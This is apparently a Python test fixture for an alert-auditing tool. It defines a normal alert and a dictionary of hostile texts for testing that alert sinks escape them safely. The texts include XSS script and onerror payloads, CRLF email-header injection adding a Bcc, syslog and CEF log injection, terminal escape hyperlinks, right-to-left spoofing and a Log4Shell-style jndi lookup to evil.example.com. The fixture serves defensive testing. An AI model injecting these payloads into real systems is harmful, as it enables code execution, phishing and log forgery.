"""Alerts for the tests of sinks: one as it usually is, and texts that somebody chose to do harm."""

from dataclasses import replace

from auditor.alerts.message import Alert, AlertKind, Line
from auditor.terms import Level

ALERT = Alert(
    id="00ff.open.1767225600",
    kind=AlertKind.OPENED,
    organization="acme",
    level=Level.HIGH,
    title="Project API key unused for 90 days",
    text="ci-bot of Ada in payments: last used 91 days ago",
    at=1_767_225_600,
    policy="project-key-stale",
    finding="00ff",
    resource_kind="project_api_key",
    resource_id="key_1",
    resource_name="ci-bot",
    remediation="Delete the key, or have its owner record a waiver with an end date.",
    facts=(("Who", "ada@example.com"), ("From", "192.0.2.7")),
    link="http://127.0.0.1:9847/findings/00ff",
)

HOSTILE = {
    "a mention of everybody": "<!channel> <!here> @here @channel @everyone <@U00000001> <at>everyone</at>",
    "a link under another name": "<http://evil.example.com|https://platform.example.com> [ok](https://evil.example.com)",
    "markup": "*bold* _italic_ **bold** `code` # head\n- item\n> quote &amp; &lt;!channel&gt;",
    "markup of pages": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;",
    "header lines": "subject\r\nBcc: evil@example.com\r\n\r\n<b>body</b>\n.\r\nQUIT\r\n",
    "log lines": 'one\n<34>1 2026-01-01T00:00:00Z evil su - - - two"] [x y="z"]\r\nCEF:0|a|b|c|d|e|10|x=y',
    "a separator": "a|b=c\\d]e\"f'g;h,i",
    "ten kilobytes": "A" * 10_240,
    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example.com\x07link\x1b]8;;\x07 \x9b2J",
    "right to left override": "\u202egnp.exe \u2066isolate\u2069 \u200b\ufeff",
    "lines": "one\n\n\n\n\ntwo\r\n*Level:* critical\u2028three\x85four\x0bfive",
    "nul and lone surrogate": "a\x00b\ud800c\udfff",
    "nothing to see": "\u200b",
    "blanks": "   ",
    "nothing": "",
    "astral": "\U000e0041\U0001f4a9\U0010ffff",
    "two megabytes": "n\u202e" * 1_000_000,
    "a template": "{{ 7 * 7 }}{% for x in y %}${jndi:ldap://evil.example.com/a} %s %n {0}",
}
"""What a member may call a key, a project or themselves."""


def hostile(case: str) -> Alert:
    """An alert with that text wherever a member can put one."""
    text = HOSTILE[case]
    return replace(
        ALERT,
        title=text,
        text=text,
        resource_name=text,
        resource_id=text,
        facts=((text, text), ("Who", text)),
        lines=(Line(Level.HIGH, "project-key-stale", text, text),),
    )


def hidden(text: str) -> list[str]:
    """The signs in it that nobody sees, line breaks excepted."""
    ranges = ((0, 0x9), (0xB, 0x1F), (0x7F, 0x9F), (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x2069))
    more = ((0xD800, 0xDFFF), (0xFEFF, 0xFEFF), (0xE0000, 0x10FFFF))
    return [each for each in text if any(low <= ord(each) <= high for low, high in (*ranges, *more))]
